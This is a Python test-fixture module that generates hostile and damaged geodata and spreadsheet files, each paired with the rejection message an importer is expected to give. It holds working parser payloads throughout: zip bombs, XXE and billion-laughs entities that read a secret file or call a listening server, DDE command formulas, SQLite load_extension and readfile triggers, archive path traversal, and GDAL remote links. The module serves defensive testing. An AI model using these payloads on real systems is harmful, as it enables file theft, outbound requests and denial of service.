"""Files that were made to do harm, or that broke on the way: real bytes, each made here.

A file may name a file that nobody may read and an address where somebody listens (`Places`).
"""

from __future__ import annotations

import io
import json
import sqlite3
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import geopandas as gpd
import openpyxl
import pyogrio
from shapely import Point
from support import old_sheets, ugly_grids
from support.ugly_grids import zipped_as

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MB = 1_000_000


@dataclass(frozen=True)
class Hostile:
    """A file.

    Attributes
    ----------
    name
        As it is called.
    content
        Its bytes, or pieces of them where there are too many.
    says
        Words of the sentence that refuses it; empty where it is harmless and is read.
    """

    name: str
    content: bytes | Callable[[], Iterator[bytes]]
    says: str


@dataclass(frozen=True)
class Places:
    """What hostile files reach for.

    Attributes
    ----------
    secret
        A file that nobody may read.
    server
        Host and port where somebody listens.
    """

    secret: str
    server: str

    @property
    def outside(self) -> str:
        """A document type with entities elsewhere."""
        return (
            f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{self.secret}">'
            f'<!ENTITY y SYSTEM "http://{self.server}/y">]>'
        )

    @property
    def remote(self) -> str:
        """A document type that is elsewhere as a whole."""
        return f'<!DOCTYPE a SYSTEM "http://{self.server}/a.dtd">'

    @property
    def vrt(self) -> bytes:
        """A list of links, as GDAL follows them."""
        return (
            f'<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>{self.secret}</SrcDataSource>'
            "</OGRVRTLayer></OGRVRTDataSource>"
        ).encode()


def write(folder: Path, hostile: Hostile) -> Path:
    """Write a file."""
    path = folder / hostile.name
    with path.open("wb") as file:
        file.writelines(hostile.content() if callable(hostile.content) else [hostile.content])
    return path


# Archives -----------------------------------------------------------------------------------------


def deflated(block: bytes, times: int, *, head: bytes = b"", tail: bytes = b"") -> bytes:
    """Pack `head`, many times the same block, and `tail`, without much work."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    middle = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + middle * times + packer.compress(tail) + packer.flush(zlib.Z_FINISH)


def archive(*parts: tuple[str, bytes, int, int], entries: int | None = None) -> bytes:
    """Write an archive of packed parts: name, packed bytes, claimed size, check sum."""
    content, directory = bytearray(), bytearray()
    for name, packed, size, crc in parts:
        label = name.encode()
        head = struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 33, crc, len(packed), size, len(label), 0)
        directory += b"PK\x01\x02\x14\0" + head + struct.pack("<HHHLL", 0, 0, 0, 0, len(content))
        directory += label
        content += b"PK\x03\x04" + head + label + packed
    count = len(parts) if entries is None else entries
    end = struct.pack("<HHHHLLH", 0, 0, count, count, len(directory), len(content), 0)
    return bytes(content + directory) + b"PK\x05\x06" + end


def whole(name: str, content: bytes) -> tuple[str, bytes, int, int]:
    return name, deflated(b"", 0, head=content), len(content), zlib.crc32(content)


def huge(
    name: str, block: bytes, times: int, *, head: bytes = b"", tail: bytes = b"", claim: int = 0
) -> tuple[str, bytes, int, int]:
    """Give a part with many times the same block; its check sum is right unless it lies."""
    size, crc = len(head) + len(block) * times + len(tail), 0
    if not claim:
        crc = zlib.crc32(head)
        for _ in range(times):
            crc = zlib.crc32(block, crc)
        crc = zlib.crc32(tail, crc)
    return name, deflated(block, times, head=head, tail=tail), claim or size, crc


def plain_book() -> dict[str, bytes]:
    """Give the parts of a sound workbook with one station."""
    data = io.BytesIO()
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active.append(["名称", "经度", "纬度"])
    book.active.append(["甲", 113.6, 34.7])
    book.save(data)
    with zipfile.ZipFile(data) as made:
        return {name: made.read(name) for name in made.namelist()}


SHEET, TEXTS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"


def book(**changed: bytes) -> bytes:
    """Give a workbook with some parts replaced: ``sheet``, ``texts``, ``book``, ``links``."""
    names = {
        "sheet": SHEET, "texts": TEXTS, "book": "xl/workbook.xml",
        "links": "xl/_rels/workbook.xml.rels",
    }  # fmt: skip
    parts = plain_book() | {names[key]: part for key, part in changed.items()}
    if "texts" in changed:
        shared = b'<Relationship Id="t" Type="x/sharedStrings" Target="sharedStrings.xml"/></Rel'
        parts[names["links"]] = parts[names["links"]].replace(b"</Rel", shared)
    return zipped_as(parts)


def book_with(*parts: tuple[str, bytes, int, int]) -> bytes:
    """Give a workbook with some parts as they are packed already."""
    taken = {name for name, *_ in parts}
    rest = [whole(n, c) for n, c in plain_book().items() if n not in taken]
    return archive(*rest, *parts)


def sheet(inside: str, *, before: str = "", after: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?>{before}<worksheet xmlns="{MAIN}"><sheetData>{inside}</sheetData>'
        f"{after}</worksheet>"
    ).encode()


HEADER = (
    '<row r="1"><c t="inlineStr" r="A1"><is><t>名称</t></is></c><c t="inlineStr" r="B1"><is><t>经度'
    '</t></is></c><c t="inlineStr" r="C1"><is><t>纬度</t></is></c></row>'
)
OPEN = f'<worksheet xmlns="{MAIN}"><sheetData>{HEADER}'.encode()
CLOSE = b"</sheetData></worksheet>"
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a0 "haha">'
    + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12))
    + "]>"
)


def workbooks(at: Places) -> Iterator[Hostile]:
    def cells(row: int, *texts: str) -> str:
        return "".join(
            f'<c t="inlineStr" r="{c}{row}"><is><t>{t}</t></is></c>'
            for c, t in zip("ABC", texts, strict=False)
        )

    station = '<row r="2">' + cells(2, "甲", "113.6", "34.7") + "</row>"
    yield Hostile("bomb.xlsx", book_with(huge(SHEET, b" " * MB, 600)), "too large once unpacked")
    yield Hostile("lie.xlsx", book_with(huge(SHEET, b" " * MB, 600, claim=900)), "damaged XLSX")
    yield Hostile("spaces.xlsx", book_with(huge(SHEET, b" " * MB, 400, head=OPEN)), "131072 char")
    bare = b"<c/>" * 9999
    yield Hostile(
        "bare.xlsx", book_with(huge(SHEET, bare, 5000, head=OPEN + b"<row>")), "3500000 cells"
    )
    yield Hostile(
        "deep.xlsx", book_with(huge(SHEET, b"<c>" * 30000, 2000, head=OPEN)), "nested or stretched"
    )
    yield Hostile(
        "tag.xlsx",
        book_with(huge(SHEET, b"a" * MB, 300, head=OPEN + b'<c r="')),
        "nested or stretched",
    )
    yield Hostile(
        "comment.xlsx", book_with(huge(SHEET, b"x" * MB, 300, head=OPEN + b"<!--")), "stretched"
    )
    yield Hostile(
        "cell.xlsx",
        book_with(huge(SHEET, b"A" * MB, 300, head=OPEN + b'<row><c t="str"><v>')),
        "131072 characters",
    )
    yield Hostile(
        "cell10.xlsx",
        book(texts=f"<sst xmlns='{MAIN}'><si><t>{'长' * 10 * MB}</t></si></sst>".encode()),
        "131072 characters",
    )
    long = b'<row><c t="str"><v>' + b"\xe9\x95\xbf" * 30_000 + b"</v></c></row>"
    yield Hostile(
        "texts.xlsx",
        book_with(huge(SHEET, long * 11, 490, head=OPEN, tail=CLOSE)),
        "more than can be read at once",
    )
    wide = b"<row>" + b"<c><v>1</v></c>" * 1000 + b"</row>"
    yield Hostile(
        "cells.xlsx",
        book_with(huge(SHEET, wide * 10, 3000, head=OPEN, tail=CLOSE)),
        "3500000 cells",
    )
    merges = "".join(f'<mergeCell ref="A{i}:XFD1048576"/>' for i in range(1, 30_000))
    yield Hostile(
        "merges.xlsx",
        book(sheet=sheet(HEADER + station, after=f"<mergeCells>{merges}</mergeCells>")),
        "",
    )
    many = "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(3, 20_000))
    columns = "".join(f"<c t='inlineStr'><is><t>c{i}</t></is></c>" for i in range(997))
    tall = "".join(
        f'<mergeCell ref="{a}2:{a}20000"/>'
        for a in [f"{x}{y}" for x in "ABCDEFGHIJ" for y in "ABCDEFGHIJKLM"]
    )
    ones = "".join(f"<c><v>{i}</v></c>" for i in range(400))
    yield Hostile(
        "tall.xlsx",
        book(
            sheet=sheet(
                HEADER.replace("</row>", columns + "</row>") + f'<row r="2">{ones}</row>' + many,
                after=f"<mergeCells>{tall}</mergeCells>",
            )
        ),
        "more than can be read at once",
    )
    yield Hostile(
        "claim.xlsx",
        book(
            sheet=sheet(HEADER + station).replace(
                b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>'
            )
        ),
        "",
    )
    yield Hostile(
        "far.xlsx", book(sheet=sheet(HEADER + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
        "column 16384",
    )  # fmt: skip
    yield Hostile(
        "row.xlsx", book(sheet=sheet(HEADER + '<row r="4000000000"><c><v>1</v></c></row>')),
        "more than 1048576 rows",
    )  # fmt: skip
    yield Hostile("back.xlsx", book(sheet=sheet(station + HEADER)), "damaged XLSX")
    yield Hostile(
        "index.xlsx",
        book(sheet=sheet('<row><c t="s"><v>99999999999</v></c></row>')),
        "damaged XLSX",
    )
    yield Hostile(
        "number.xlsx",
        book(sheet=sheet(HEADER + f'<row r="2"><c><v>{"9" * 5000}</v></c></row>')),
        "",
    )
    yield Hostile("laughs.xlsx", book(sheet=sheet("&a11;", before=LAUGHS)), "document type")
    yield Hostile(
        "entity.xlsx",
        book(sheet=sheet(HEADER + "<row><c t='str'><v>&x;&y;</v></c></row>", before=at.outside)),
        "document type",
    )
    yield Hostile(
        "texts_entity.xlsx", book(texts=(at.outside + "<sst>&x;</sst>").encode()), "document type"
    )
    yield Hostile(
        "book_entity.xlsx", book(book=(at.remote + "<workbook/>").encode()), "document type"
    )
    links = plain_book()["xl/_rels/workbook.xml.rels"]
    assert b"/xl/worksheets/sheet1.xml" in links
    yield Hostile(
        "way_out.xlsx",
        book(
            links=links.replace(
                b"/xl/worksheets/sheet1.xml", f"../../../../../{at.secret}".encode()
            )
        ),
        "holds no rows",
    )
    yield Hostile(
        "elsewhere.xlsx",
        book(
            links=links.replace(
                b'Target="/xl/worksheets/sheet1.xml"',
                f'Target="http://{at.server}/s.xml" TargetMode="External"'.encode(),
            )
        ),
        "holds no rows",
    )
    external = plain_book() | {
        "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" '
        b'ddeTopic="/C calc"/></externalLink>',
        SHEET: sheet(
            HEADER + station + '<row r="3"><c t="str"><f>cmd|\' /C calc\'!A0</f><v>乙</v></c>'
            f"<c><f>[1]Sheet1!A1</f><v>113.7</v></c><c><f>WEBSERVICE(&quot;http://{at.server}&quot;)</f>"
            "<v>34.8</v></c></row>"
        ),
    }
    yield Hostile("links.xlsx", zipped_as(external), "")
    sound = zipped_as(plain_book())
    yield Hostile("cut.xlsx", sound[:900], "cut off")
    yield Hostile("tail.xlsx", sound[:-30], "cut off")
    names = ("../evil.xml", "/etc/evil.xml", "C:/evil.xml", "a/../../evil.xml", "..\\evil.xml")
    for i, name in enumerate(names):
        yield Hostile(f"out{i}.xlsx", zipped_as(plain_book() | {name: b"x"}), "leads out")
    yield Hostile("link.xlsx", with_link(at), "leads out")
    yield Hostile(
        "locked.xlsx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
        "password",
    )
    yield Hostile("flag.xlsx", flagged(), "password")
    part = whole("xl/a.xml", b"x" * 10)
    yield Hostile("many.xlsx", archive(*[part] * 60_000), "too many parts")
    yield Hostile("shared.xlsx", sharing(), "cut off")
    yield Hostile(
        "nested.zip", zipped_as({"a.zip": zipped_as({"b.zip": sound})}), "without a Shapefile"
    )
    yield Hostile("matryoshka.xlsx", zipped_as({"a.xlsx": sound}), "without a Shapefile")
    yield Hostile("empty_archive.xlsx", zipped_as({}), "without a Shapefile")


def with_link(at: Places) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as made:
        for name, content in plain_book().items():
            made.writestr(name, content)
        link = zipfile.ZipInfo("xl/evil.xml")
        link.external_attr = 0o120777 << 16
        made.writestr(link, f"{at.secret}")
    return data.getvalue()


def flagged() -> bytes:
    content = bytearray(zipped_as(plain_book()))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        found = content.find(mark)
        while found >= 0:
            content[found + at] |= 1
            found = content.find(mark, found + 4)
    return bytes(content)


def sharing() -> bytes:
    """Many parts that share the same packed bytes."""
    name, packed, size, crc = huge("xl/a.xml", b" " * MB, 9)
    label = name.encode()
    head = struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 33, crc, len(packed), size, len(label), 0)
    content = b"PK\x03\x04" + head + label + packed
    entry = b"PK\x01\x02\x14\0" + head + struct.pack("<HHHLL", 0, 0, 0, 0, 0) + label
    end = struct.pack("<HHHHLLH", 0, 0, 1000, 1000, 1000 * len(entry), len(content), 0)
    return content + entry * 1000 + b"PK\x05\x06" + end


# Text ---------------------------------------------------------------------------------------------

HEAD = "名称,经度,纬度\n".encode()


def repeated(
    head: bytes, block: bytes, n_bytes: int, tail: bytes = b""
) -> Callable[[], Iterator[bytes]]:
    def pieces() -> Iterator[bytes]:
        yield head
        chunk = block * (MB // len(block))
        for _ in range(n_bytes // len(chunk)):
            yield chunk
        yield tail

    return pieces


def texts(at: Places) -> Iterator[Hostile]:
    yield Hostile("line.csv", repeated(HEAD, b"a", 195 * MB), "more than 1000000 characters")
    yield Hostile("wide_line.csv", repeated(HEAD, "长".encode(), 60 * MB), "more than 1000000")
    yield Hostile("cell10.csv", HEAD + "甲".encode() * 10 * MB, "more than 1000000")
    yield Hostile("long.csv", HEAD + "甲".encode() * 140_000 + b",1,2", "row 2 cannot be split")
    yield Hostile("quote.csv", repeated(HEAD + b'"', b"a\n", 60 * MB), "quotation mark")
    yield Hostile("columns.csv", b"a," * MB + b"\n" + b"1," * MB, "more than 1000000")
    yield Hostile("columns2.csv", HEAD + b"1," * 400_000 + b"1\n", "column 400001")
    yield Hostile("blank.csv", repeated(HEAD, b"\n", 60 * MB), "1048576 rows")
    yield Hostile("short.csv", repeated(HEAD, b"1\n", 60 * MB), "1048576 rows")
    yield Hostile("commas.csv", repeated(HEAD, b"1,2,3,4,5,6,7,8,9\n" * 10, MB), "10000 rows")
    unique = (
        b"".join(b"%08d%s,%08d,%08d\n" % (i, b"n" * 40, i, i) for i in range(k, k + 10_000))
        for k in range(0, 10**8, 10_000)
    )
    yield Hostile(
        "unique.csv",
        lambda: (c for c, _ in zip(unique, range(230), strict=False)),
        "1048576 rows|more than can be read",
    )
    notes = "注：无\n".encode()
    yield Hostile("notes.csv", repeated(HEAD + b"a,1,2\n", notes * 100, 3 * MB), "")
    yield Hostile("nul.csv", HEAD + b"a\0b,1,2\n", "not text in UTF-8")
    yield Hostile("nuls.csv", b"\0" * MB, "not text in UTF-8")
    yield Hostile("binary.csv", bytes(range(1, 256)) * 4000, "not text in UTF-8")
    yield Hostile("latin.csv", "name,lon,lat\ncafé,1,2".encode("latin-1"), "not text in UTF-8")
    yield Hostile("cut.csv", HEAD + "甲,1,2\n乙".encode()[:-1], "middle of a character")
    yield Hostile(
        "utf16cut.csv", "名称,经度,纬度\n甲,1,2".encode("utf-16")[:-1], "middle of a char"
    )
    yield Hostile(
        "surrogate.csv", b"\xff\xfe" + b"a\0,\0b\0\n\0" + b"\x00\xd8a\0", "not text in UTF-8"
    )
    yield Hostile("dde.csv", HEAD + b"=cmd|' /C calc'!A0,113,34\n", "")
    yield Hostile("vrt.csv", at.vrt, "list of links")
    yield Hostile("picture.csv", b"\x89PNG\r\n" + b"\0" * 100, "picture or a PDF")
    yield Hostile("paper.xlsx", b"%PDF-1.7 " + b"x" * 100, "picture or a PDF")
    yield Hostile("rar.zip", b"Rar!\x1a\x07" + b"x" * 100, "packed in a way")
    yield Hostile("page.xls", b"<html><body><p>hello", "without a table")
    yield Hostile("tags.xls", b"<html><table>" + b"<!--" * 24_000, "too large|without a table")
    yield Hostile("open.xls", b"<html><table><td>" + b"<a b='" * 500_000, "too large|without")
    yield Hostile("tag.xls", b"<html><table><td>" + b"<a " * 30_000, "without a table")
    yield Hostile("section.xls", b"<html><table><td><![<![", "damaged web page")
    yield Hostile("deep.xls", b"<html>" + b"<table><tr><td>" * 60_000, "without a table")
    yield Hostile(
        "span.xls",
        b"<html><table><tr><td rowspan=999999999 colspan=999999999>x" * 1000,
        "reaches to column|read at once|holds no rows",
    )
    yield Hostile(
        "spans.xls",
        b"<html><table>" + b"<tr><td rowspan=999 colspan=900>x" * 5000,
        "reaches to column|read at once",
    )
    yield Hostile("long.xls", b"<html><table><tr><td>" + b"x" * 10 * MB, "131072 characters")
    yield Hostile(
        "fetch.xls",
        f"<html><script src='http://{at.server}/a.js'></script><img src='http://{at.server}/i'><iframe src='file://{at.secret}'></iframe><table><tr><td>名称<td>经度<td>纬度<tr><td>甲<td>1<td>2</table>".encode(),
        "",
    )


# Places -------------------------------------------------------------------------------------------


def collection(*features: str, more: str = "") -> bytes:
    return (
        '{"type":"FeatureCollection"' + more + ',"features":[' + ",".join(features) + "]}"
    ).encode()


def feature(properties: str = "{}", place: str = "[113.6,34.7]") -> str:
    return f'{{"type":"Feature","properties":{properties},"geometry":{{"type":"Point","coordinates":{place}}}}}'


def geojson(at: Places) -> Iterator[Hostile]:
    yield Hostile("vrt.geojson", at.vrt, "list of links")
    yield Hostile("vrt.json", b"\xef\xbb\xbf\n" + at.vrt, "list of links")
    yield Hostile("deep.geojson", collection(feature(place="[" * 200_000)), "nested too deep")
    yield Hostile("deep_objects.geojson", b'{"a":' * 200_000, "nested too deep")
    yield Hostile("open.geojson", repeated(b'{"features":["', b"a", 60 * MB), "more than 4000000")
    yield Hostile(
        "list.geojson", repeated(b'{"features":[{"a":[', b"0,", 60 * MB), "more than 4000000"
    )
    yield Hostile(
        "empties.geojson", repeated(b'{"features":[0', b",0", 60 * MB), "10000|1048576 rows"
    )
    yield Hostile("spaces.geojson", repeated(b'{"features":[', b" ", 20 * MB), "not valid JSON")
    yield Hostile(
        "text.geojson",
        collection(feature(json.dumps({"名称": "长" * 10 * MB}))),
        "more than 4000000",
    )
    yield Hostile(
        "cell.geojson",
        collection(feature(json.dumps({"名称": "x" * 200_000}))),
        "131072 characters",
    )
    yield Hostile(
        "number.geojson", collection(feature('{"a":' + "9" * 100_000 + "}")), "not valid JSON"
    )
    yield Hostile("float.geojson", collection(feature('{"a":1e400}', "[1e999,1]")), "")
    yield Hostile("big_place.geojson", collection(feature(place="[" + "9" * 400 + ",1]")), "")
    yield Hostile("nan.geojson", collection(feature(place="[NaN,1]")), "not valid JSON")
    names = ",".join(f'"k{i}":1' for i in range(100_000))
    yield Hostile("names.geojson", collection(feature("{" + names + "}")), "1000 columns")
    each = (feature(f'{{"k{i}":1}}') for i in range(100_000))
    yield Hostile("each.geojson", collection(*each), "1000 columns")
    yield Hostile("cut.geojson", collection(feature())[:-20], "not valid JSON")
    yield Hostile("after.geojson", collection(feature()) + b"{}", "not valid JSON")
    yield Hostile("topology.json", b'{"type": "Topology"}', "no GeoJSON")
    for i, crs in enumerate(
        (
            f"+init={at.secret}:x",
            f"/vsicurl/http://{at.server}/a",
            f"http://{at.server}/a.prj",
            f"{at.secret}",
            "x" * 99_999,
        )
    ):
        named = f',"crs":{{"type":"name","properties":{{"name":"{crs}"}}}}'
        yield Hostile(f"crs{i}.geojson", collection(feature(), more=named), "coordinate system")
    link = f',"crs":{{"type":"link","properties":{{"href":"http://{at.server}/crs"}}}}'
    yield Hostile("crs_link.geojson", collection(feature(), more=link), "coordinate system")


def kml(inside: str, before: str = "") -> bytes:
    return f'{before}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{inside}</Document></kml>'.encode()


def placemarks(at: Places) -> Iterator[Hostile]:
    mark = (
        "<Placemark><name>甲</name><Point><coordinates>113.6,34.7</coordinates></Point></Placemark>"
    )
    yield Hostile("laughs.kml", kml("<name>&a11;</name>", LAUGHS), "document type")
    yield Hostile("entity.kml", kml(mark.replace("甲", "&x;&y;"), at.outside), "document type")
    yield Hostile("remote.kml", kml(mark, at.remote), "document type")
    include = f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file://{at.secret}"/>'
    style = f'<?xml-stylesheet href="http://{at.server}/s.xsl"?>'
    yield Hostile("include.kml", kml(mark.replace("甲", include), style), "")
    link = f"<NetworkLink><Link><href>http://{at.server}/more.kml</href></Link></NetworkLink>"
    yield Hostile("link.kml", kml(link), "only links")
    overlay = f"<GroundOverlay><Icon><href>http://{at.server}/i.png</href></Icon></GroundOverlay>"
    yield Hostile("overlay.kml", kml(overlay + link + mark), "")
    yield Hostile("deep.kml", kml("<Folder>" * 100_000), "nested or stretched")
    yield Hostile(
        "name.kml", kml(f"<Placemark><name>{'长' * 10 * MB}</name></Placemark>"), "131072"
    )
    yield Hostile("tag.kml", repeated(b"<kml><a b='", b"x", 20 * MB), "nested or stretched")
    yield Hostile("spaces.kml", repeated(b"<kml>", b" ", 60 * MB), "damaged KML")
    yield Hostile("marks.kml", repeated(b"<kml>", b"<Placemark/>", 60 * MB), "10000 places")
    data = "".join(f'<Data name="k{i}"><value>1</value></Data>' for i in range(50_000))
    yield Hostile(
        "data.kml",
        kml(f"<Placemark><ExtendedData>{data}</ExtendedData></Placemark>"),
        "1000 columns",
    )
    lines = "&lt;" * 20_000 + "a:" * 20_000
    yield Hostile(
        "lines.kml", kml(mark.replace("<Point>", f"<description>{lines}</description><Point>")), ""
    )
    yield Hostile("cut.kml", kml(mark)[:-30], "damaged KML")
    yield Hostile("vrt.kml", at.vrt, "list of links")
    inside = kml(mark)
    yield Hostile(
        "bomb.kmz", archive(huge("doc.kml", b" " * MB, 600, head=b"<kml>")), "once unpacked"
    )
    yield Hostile(
        "lie.kmz", archive(huge("doc.kml", b" " * MB, 600, head=b"<kml>", claim=500)), "damaged"
    )
    yield Hostile("out.kmz", zipped_as({"doc.kml": inside, "../../evil.kml": inside}), "leads out")
    yield Hostile(
        "nested.kmz", zipped_as({"a.kmz": zipped_as({"doc.kml": inside})}), "without a Shapefile"
    )


@cache
def sound_geopackage() -> bytes:
    """Give a GeoPackage with one station and without triggers, which need functions of GDAL."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "a.gpkg")
        frame = gpd.GeoDataFrame({"名称": ["甲"]}, geometry=[Point(113.6, 34.7)], crs="EPSG:4326")
        pyogrio.write_dataframe(frame, path, layer="stations", SPATIAL_INDEX="NO")
        content = path.read_bytes()
    return changed(
        content,
        *(f'DROP TRIGGER "{name}"' for name in names_of(content, "trigger")),
    )


def changed(content: bytes, *statements: str) -> bytes:
    """Give a database after some statements."""
    with closing(sqlite3.connect(":memory:", isolation_level=None)) as raw:
        raw.deserialize(content)
        raw.execute("BEGIN")
        for statement in statements:
            raw.execute(statement)
        raw.execute("COMMIT")
        return raw.serialize()


def names_of(content: bytes, kind: str) -> list[str]:
    with closing(sqlite3.connect(":memory:")) as raw:
        raw.deserialize(content)
        found = raw.execute("SELECT name FROM sqlite_master WHERE type = ?", (kind,))
        return [name for (name,) in found]


def geopackage(*statements: str) -> bytes:
    """Give a GeoPackage changed by some statements."""
    return changed(sound_geopackage(), *statements)


def view(select: str) -> bytes:
    """Give a GeoPackage whose layer is a view."""
    return geopackage(
        "ALTER TABLE stations RENAME TO hidden",
        f"CREATE VIEW stations AS SELECT fid, geom, {select} AS 名称 FROM hidden",
        "UPDATE gpkg_contents SET table_name = 'stations'",
        "DELETE FROM gpkg_geometry_columns",
        "INSERT INTO gpkg_geometry_columns VALUES ('stations','geom','POINT',4326,0,0)",
    )


def databases(at: Places) -> Iterator[Hostile]:
    yield Hostile("vrt.gpkg", at.vrt, "list of links")
    yield Hostile("garbage.gpkg", b"SQLite format 3\0" + b"\0" * 200, "not a GeoPackage")
    yield Hostile(
        "trigger.gpkg",
        geopackage(
            f"CREATE TRIGGER evil AFTER UPDATE ON stations BEGIN SELECT load_extension('{at.secret}'); END",
            "CREATE TRIGGER worse AFTER INSERT ON gpkg_contents BEGIN DELETE FROM stations; END",
        ),
        "",
    )
    for name, select in {
        "geocode": f"ogr_geocode('http://{at.server}/')",
        "load": f"load_extension('{at.secret}')",
        "readfile": f"readfile('{at.secret}')",
        "blob": "hex(zeroblob(900000000))",
    }.items():
        yield Hostile(f"view_{name}.gpkg", view(select), "is a view")
    endless = (
        "(WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT max(i) FROM n)"
    )
    yield Hostile("view_endless.gpkg", view(endless), "is a view")
    yield Hostile(
        "contents_view.gpkg",
        geopackage(
            "ALTER TABLE gpkg_contents RENAME TO c",
            f"CREATE VIEW gpkg_contents AS SELECT * FROM c WHERE {endless} > 0",
        ),
        "damaged",
    )
    yield Hostile(
        "virtual.gpkg",
        geopackage(
            "ALTER TABLE stations RENAME TO hidden",
            "CREATE VIRTUAL TABLE stations USING rtree(fid, a, b)",
        ),
        "no layer with places|is a view",
    )
    yield Hostile(
        "computed.gpkg",
        geopackage("ALTER TABLE stations ADD COLUMN x AS (hex(zeroblob(900000000)))"),
        "",
    )
    yield Hostile(
        "blob.gpkg",
        geopackage("UPDATE stations SET 名称 = hex(zeroblob(5000000))"),
        "131072",
    )
    yield Hostile(
        "geometry.gpkg",
        geopackage("UPDATE stations SET geom = zeroblob(70000000)"),
        "damaged",
    )
    columns = ", ".join(f"c{i}" for i in range(1500))
    yield Hostile(
        "columns.gpkg",
        geopackage("DROP TABLE stations", f"CREATE TABLE stations (geom, {columns})"),
        "column 1500",
    )
    yield Hostile(
        "attach.gpkg",
        geopackage(f"UPDATE stations SET 名称 = 'ATTACH ''{at.secret}'' AS a'"),
        "",
    )
    quoted = f'a"; ATTACH {at.secret} AS b; --'
    yield Hostile("quoted.gpkg", geopackage(f"ALTER TABLE stations ADD COLUMN [{quoted}]"), "")
    sound = geopackage()
    yield Hostile("cut.gpkg", sound[: len(sound) // 2], "damaged")
    yield Hostile("head.gpkg", sound[:4096], "damaged")
    wrong = bytearray(sound)
    for page in range(4096, len(wrong), 4096):
        wrong[page : page + 8] = b"\x05\xff\xff\xff\xff\xff\xff\xff"
    yield Hostile("pages.gpkg", bytes(wrong), "damaged")
    yield Hostile(
        "crs.gpkg",
        geopackage(
            f"UPDATE gpkg_spatial_ref_sys SET organization = 'x', definition = '+init={at.secret}:a'",
        ),
        "coordinate system",
    )


def shapefiles(at: Places) -> Iterator[Hostile]:
    frame = gpd.GeoDataFrame({"名称": ["甲", "乙"]}, geometry=[Point(113.6, 34.7), Point(1, 2)])
    parts = {f"a{e}": c for e, c in ugly_grids.shape_parts(frame, "UTF-8").items()}
    shp, dbf = parts["a.shp"], parts["a.dbf"]

    def changed(**new: bytes) -> bytes:
        return zipped_as(parts | {f"a.{e}": c for e, c in new.items()})

    def patched(content: bytes, at: int, form: str, *values: int) -> bytes:
        made = bytearray(content)
        struct.pack_into(form, made, at, *values)
        return bytes(made)

    yield Hostile("vrt.zip", changed(shp=at.vrt), "damaged Shapefile")
    yield Hostile("only_vrt.zip", zipped_as({"a.vrt": at.vrt}), "without a Shapefile")
    yield Hostile(
        "geojson.zip", zipped_as({"a.geojson": collection(feature())}), "without a Shapefile"
    )
    yield Hostile("no_table.zip", zipped_as({"a.shp": shp}), ".dbf part")
    yield Hostile("rows.zip", changed(dbf=patched(dbf, 4, "<I", 2**31)), "damaged Shapefile")
    yield Hostile("head.zip", changed(dbf=patched(dbf, 8, "<H", 65_535)), "damaged Shapefile")
    yield Hostile("width.zip", changed(dbf=patched(dbf, 10, "<H", 1)), "damaged Shapefile")
    yield Hostile("record.zip", changed(shp=patched(shp, 104, ">i", 2**30)), "damaged Shapefile")
    yield Hostile("negative.zip", changed(shp=patched(shp, 104, ">i", -5)), "damaged Shapefile")
    yield Hostile("index.zip", changed(shx=b"\xff" * 5000), "")
    yield Hostile("cut.zip", changed(shp=shp[:-5]), "damaged Shapefile")
    yield Hostile("cut_table.zip", changed(dbf=dbf[:-100]), "damaged Shapefile")
    yield Hostile("init.zip", changed(prj=f"+init={at.secret}:a".encode()), "coordinate system")
    yield Hostile("wkt.zip", changed(prj=b"PROJCS[" * 2000), "coordinate system")
    yield Hostile("page.zip", changed(cpg=b"unicode_escape"), "")
    yield Hostile("codec.zip", changed(cpg=b"zip"), "")
    yield Hostile("out.zip", zipped_as(parts | {"../../b.shp": shp}), "leads out")
    yield Hostile(
        "several.zip",
        zipped_as(parts | {f"b.{n[2:]}": c for n, c in parts.items()}),
        "several tables",
    )
    yield Hostile(
        "bomb.zip", archive(huge("a.shp", b"\0" * MB, 600), whole("a.dbf", dbf)), "once unpacked"
    )
    empty = struct.pack(">ii", 1, 2) + struct.pack("<i", 0)
    head = bytearray(shp[:100])
    yield Hostile(
        "nulls.zip",
        archive(huge("a.shp", empty * 10_000, 2000, head=bytes(head)), whole("a.dbf", dbf)),
        "1048576 rows",
    )


def old_workbooks(at: Places) -> Iterator[Hostile]:
    far = zlib.decompress(ugly_grids.base64.b85decode(old_sheets.FAR))
    sound = zlib.decompress(ugly_grids.base64.b85decode(old_sheets.DISTRICT))
    yield Hostile("far.xls", far, "damaged old workbook")
    yield Hostile("cut.xls", sound[:3000], "damaged old workbook")
    yield Hostile("head.xls", sound[:512], "damaged old workbook")
    yield Hostile("noise.xls", sound[:512] + bytes(range(256)) * 20, "damaged old workbook")
    looped = bytearray(sound)
    struct.pack_into("<I", looped, 512 * (1 + struct.unpack_from("<I", sound, 76)[0]), 0)
    yield Hostile("loop.xls", bytes(looped), "damaged old workbook")
    yield Hostile("zeros.xls", sound[:8] + b"\0" * 5000, "damaged old workbook")


def all_files(at: Places) -> Iterator[Hostile]:
